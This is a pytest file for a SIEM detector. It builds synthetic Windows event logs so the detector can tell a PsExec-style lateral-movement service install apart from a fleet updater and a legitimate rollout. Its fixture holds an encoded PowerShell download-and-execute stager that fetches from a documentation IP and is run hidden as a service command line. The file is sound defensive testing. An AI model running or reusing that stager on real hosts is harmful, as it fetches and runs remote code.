"""A service installed on many hosts within minutes is a fan-out cluster; a fleet-wide updater is not.

Through the real path: Winlogbeat records (System 7045, Sysmon 1) -> ingest_paths -> journal ->
embedded store -> detect.  40 hosts install a driver updater's service every day for three
weeks (as a fleet's software deployment re-registers it) and run a few ordinary processes;
on the last day 14 of them get a new legitimate service over the working day (a rollout), and 12
install the same random-named service running ``cmd /c start powershell -enc ...`` within four
minutes (PsExec-style lateral movement).
"""

from __future__ import annotations

import base64
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import orjson
import pytest

from analytics.detect import detect
from graphsiem.model import stable_hash
from graphsiem.store.embedded import EmbeddedStore
from ingest.journal import Journal
from ingest.normalize import normalize_command_line
from ingest.pipeline import ingest_paths

HOSTS = [f"ws-{i:04d}" for i in range(40)]
ODD_HOSTS = HOSTS[5:17]
START = datetime(2024, 3, 1, 9, 0, tzinfo=UTC)
DAYS = 21
CMD = "C:\\Windows\\system32\\cmd.exe"
STAGER = base64.b64encode("IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a')".encode(
    "utf-16-le")).decode()
ODD_IMAGE_PATH = f"%COMSPEC% /b /c start /b /min powershell -nop -w hidden -enc {STAGER}"
ODD = ("process", stable_hash(CMD.lower(), normalize_command_line(ODD_IMAGE_PATH.replace("%COMSPEC%", CMD))))
UPDATER_PATH = "C:\\Program Files\\Vendor\\DriverUpdate\\drvupdsvc.exe"
UPDATER_LINE = f'"{UPDATER_PATH}" -service'
UPDATER = ("process", stable_hash(UPDATER_PATH.lower(), normalize_command_line(UPDATER_LINE)))
ROLLOUT_HOSTS = HOSTS[20:34]
ROLLOUT_LINE = '"C:\\Program Files\\Zoom\\bin\\CptService.exe" -user_path "C:\\Users\\user\\AppData\\Roaming\\Zoom"'
ROLLOUT = ("process", stable_hash("c:\\program files\\zoom\\bin\\cptservice.exe", normalize_command_line(ROLLOUT_LINE)))
ORDINARY = [("C:\\Windows\\System32\\svchost.exe", "C:\\Windows\\system32\\svchost.exe -k netsvcs"),
            ("C:\\Program Files\\Mozilla Firefox\\firefox.exe", '"C:\\Program Files\\Mozilla Firefox\\firefox.exe"')]


def _record(host: str, when: datetime, channel: str, event_id: int, data: dict[str, Any], n: int) -> dict[str, Any]:
    stamp = when.strftime("%Y-%m-%dT%H:%M:%S.000Z")
    if channel.startswith("Microsoft-Windows-Sysmon"):
        data = {"UtcTime": when.strftime("%Y-%m-%d %H:%M:%S.000"), **data}
    return {"@timestamp": stamp, "winlog": {"channel": channel, "computer_name": f"{host}.corp.example.com",
                                            "event_id": str(event_id), "record_id": str(n), "event_data": data}}


def _service(name: str, image_path: str) -> dict[str, Any]:
    return {"ServiceName": name, "ImagePath": image_path, "ServiceType": "user mode service",
            "StartType": "auto start", "AccountName": "LocalSystem"}


def _fleet() -> list[dict[str, Any]]:
    records: list[dict[str, Any]] = []
    for day in range(DAYS):
        for index, host in enumerate(HOSTS):
            morning = START + timedelta(days=day, minutes=index * 3)
            records.append(_record(host, morning, "System", 7045, _service("DrvUpdSvc", UPDATER_LINE), len(records)))
            for offset, (image, line) in enumerate(ORDINARY):
                records.append(_record(host, morning + timedelta(minutes=10 + offset), "Microsoft-Windows-Sysmon/Operational",
                                       1, {"Image": image, "CommandLine": line, "ProcessId": str(1000 + offset),
                                           "User": "CORP\\user"}, len(records)))
    last_day = START + timedelta(days=DAYS - 1)
    for index, host in enumerate(ROLLOUT_HOSTS):  # a legitimate new service, rolled out over the working day
        records.append(_record(host, last_day + timedelta(minutes=37 * index), "System", 7045,
                               _service("ZoomSharing", ROLLOUT_LINE), len(records)))
    attack = last_day + timedelta(hours=6)
    for index, host in enumerate(ODD_HOSTS):
        records.append(_record(host, attack + timedelta(seconds=20 * index), "System", 7045,
                               _service(f"x{stable_hash(host, length=7)}", ODD_IMAGE_PATH), len(records)))
    return records


def detected_fleet(root: Path, records: list[dict[str, Any]]) -> Iterator[tuple[EmbeddedStore, Any]]:
    """The body of a ``detected`` fixture: ``records`` ingested into a store under ``root``, and detect's result."""
    path = root / "fleet.ndjson"
    path.write_bytes(b"\n".join(orjson.dumps(record) for record in records) + b"\n")
    store = EmbeddedStore(root / "graph")
    with Journal(root / "journal.sqlite") as journal:
        report = ingest_paths([path], store=store, journal=journal, progress=False)
    assert report.total.rejected == 0
    result = detect(store)
    yield store, result
    store.close()


@pytest.fixture(scope="module")
def detected(tmp_path_factory):
    yield from detected_fleet(tmp_path_factory.mktemp("persistence-fleet"), _fleet())


def _cluster_of(result, ref):
    return next((cluster for cluster in result.clusters if ref in {entity.ref for entity in cluster.entities}), None)


def test_the_odd_service_installed_on_twelve_hosts_is_a_cluster_of_those_hosts(detected) -> None:
    _, result = detected
    cluster = _cluster_of(result, ODD)
    assert cluster is not None and sorted(cluster.hosts) == ODD_HOSTS
    assert cluster.score == max(c.score for c in result.clusters)
    # new and synchronised: the features the scorer reads
    assert "12 hosts first" in cluster.explanation.summary and "within 2 minutes" in cluster.explanation.summary
    # installed, maybe never run: the line says so, not that the hosts ran it
    assert "first installed or ran process" in cluster.explanation.summary
    assert "it is installed as a service" in cluster.explanation.summary


def test_a_new_service_rolled_out_over_the_day_is_a_cluster_of_its_own(detected) -> None:
    _, result = detected
    cluster = _cluster_of(result, ROLLOUT)
    assert cluster is not None and sorted(cluster.hosts) == ROLLOUT_HOSTS and ODD not in {entity.ref for entity in cluster.entities}


def test_the_fleet_wide_updater_service_forms_no_cluster(detected) -> None:
    store, result = detected
    assert len(store.hosts_of(*UPDATER)) == len(HOSTS)  # installed everywhere, every day: it is in the graph
    assert all(UPDATER not in {entity.ref for entity in cluster.entities} for cluster in result.clusters)


def test_the_installs_are_host_installed_relations_with_their_evidence(detected) -> None:
    store, _ = detected
    installed = {r.src: r for r in store.iter_relations("INSTALLED") if r.dst == ODD}
    assert sorted(host for _, host in installed) == ODD_HOSTS
    assert all(relation.count == 1 and len(relation.evidence) == 1 for relation in installed.values())
